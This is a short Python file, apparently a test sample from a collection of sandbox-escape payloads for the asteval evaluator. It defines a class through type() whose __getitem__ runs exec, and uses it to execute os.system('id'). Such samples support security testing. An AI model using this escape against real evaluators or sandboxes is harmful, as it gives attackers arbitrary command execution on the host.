# Source: https://github.com/lmfit/asteval/issues/32
# Family: type-trick
# What: type(name, bases, dict) creates a class with __getitem__ = exec
E = type("E", (), {"__getitem__": lambda self, s: exec(s)})
E()["import os; os.system('id')"]
